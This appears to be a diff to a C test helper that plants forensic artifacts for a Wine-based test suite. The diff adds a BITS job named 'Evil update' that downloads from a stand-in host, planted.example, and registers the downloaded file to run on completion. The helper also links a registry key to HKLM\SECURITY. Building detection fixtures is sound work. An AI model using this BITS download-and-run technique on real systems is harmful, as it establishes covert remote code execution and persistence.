@@ -1,17 +1,23 @@
 /* Usage: plugin_plant PROFILE [STAY]. Makes what a test wants to find and no tool of Wine makes: a
  * hive of a user who is not logged in, in PROFILE\NTUSER.DAT, and a link of the registry,
- * HKLM\SOFTWARE\CordonLink, to HKLM\SECURITY, or with `-` for PROFILE nothing of that; with STAY
- * also a socket that listens, and a process that stays until its input ends: it prints the port,
- * its number and its start. With HELD for STAY it holds its own program open meanwhile, so that
- * nobody else can open it.
- * `plugin_plant - above FILE PROGRAM ...` starts the program and waits for its end, with another
- * child that sleeps meanwhile; FILE gets a line for itself and for that child: number and start. */
+ * HKLM\SOFTWARE\CordonLink, to HKLM\SECURITY, and a job of BITS, or with `-` for PROFILE nothing of
+ * that; with STAY also a socket that listens, and a process that stays until its input ends: it
+ * prints the port, its number and its start. With HELD for STAY it holds its own program open
+ * meanwhile, so that nobody else can open it. `plugin_plant - above FILE PROGRAM ...` starts the
+ * program and waits for its end, with another child that sleeps meanwhile; FILE gets a line for
+ * itself and for that child: number and start. */
+#define COBJMACROS
 #include <stdio.h>
 #include <string.h>
 
 #include <winsock2.h>
 
 #include <windows.h>
+
+#include <initguid.h>
+
+#include <bits.h>
+#include <bits1_5.h>
 
 static int enable(const wchar_t *name)
 {
@@ -144,6 +150,38 @@ static int stay_above(const wchar_t *file, const wchar_t *program)
   return !good;
 }
 
+/* A job of BITS that has yet to begin, with something to run at its end. How that went is for
+ * whoever looks: not every system takes the second. */
+static void plant_job(void)
+{
+  IBackgroundCopyManager *manager = NULL;
+  IBackgroundCopyJob *job = NULL;
+  IBackgroundCopyJob2 *more = NULL;
+  GUID id;
+  HRESULT com = CoInitializeEx(NULL, COINIT_MULTITHREADED);
+  HRESULT hr = CoCreateInstance(&CLSID_BackgroundCopyManager, NULL, CLSCTX_LOCAL_SERVER,
+                                &IID_IBackgroundCopyManager, (void **)&manager);
+  if (SUCCEEDED(hr))
+    hr = IBackgroundCopyManager_CreateJob(manager, L"Evil update", BG_JOB_TYPE_DOWNLOAD, &id, &job);
+  if (SUCCEEDED(hr))
+    hr = IBackgroundCopyJob_AddFile(job, L"http://planted.example/evil.exe",
+                                    L"C:\\evil\\fetched.exe");
+  (void)fprintf(stderr, "the job: 0x%lx\n", (unsigned long)hr);
+  if (SUCCEEDED(hr))
+    hr = IBackgroundCopyJob_QueryInterface(job, &IID_IBackgroundCopyJob2, (void **)&more);
+  if (SUCCEEDED(hr))
+    hr = IBackgroundCopyJob2_SetNotifyCmdLine(more, L"C:\\evil\\fetched.exe", L"fetched.exe -q");
+  (void)fprintf(stderr, "what it runs: 0x%lx\n", (unsigned long)hr);
+  if (more != NULL)
+    (void)IBackgroundCopyJob2_Release(more);
+  if (job != NULL)
+    (void)IBackgroundCopyJob_Release(job);
+  if (manager != NULL)
+    (void)IBackgroundCopyManager_Release(manager);
+  if (SUCCEEDED(com))
+    CoUninitialize();
+}
+
 /* What the C library calls with texts in UTF-16. */
 int wmain(int argc, wchar_t **argv);
 
@@ -160,5 +198,7 @@ int wmain(int argc, wchar_t **argv)
   if (argc > 2 && wcscmp(argv[2], L"held") == 0 && !hold_oneself())
     return 1;
   int failed = wcscmp(argv[1], L"-") != 0 && (plant_hive(argv[1]) || plant_link());
+  if (wcscmp(argv[1], L"-") != 0)
+    plant_job();
   return failed || argc < 3 ? failed : listen_and_stay();
 }
